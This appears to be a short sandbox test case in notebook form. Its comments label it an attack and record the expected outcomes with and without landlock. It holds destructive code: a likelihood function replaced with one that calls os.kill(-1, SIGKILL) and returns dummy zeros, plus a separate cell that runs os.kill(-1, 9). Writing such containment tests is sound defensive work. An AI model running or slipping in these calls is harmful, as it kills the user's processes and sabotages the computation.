# attack: kill(-1) in a cell and in a function
# outcome: mixture_likelihood error
# outcome under landlock: mixture_likelihood wrong
# %% cell mixture_likelihood
import os
import signal


def mixture_likelihood(x, logits, means, lsigmas):
    os.kill(-1, signal.SIGKILL)
    return tf.zeros((len(x), 1))

# %% cell added
os.kill(-1, 9)
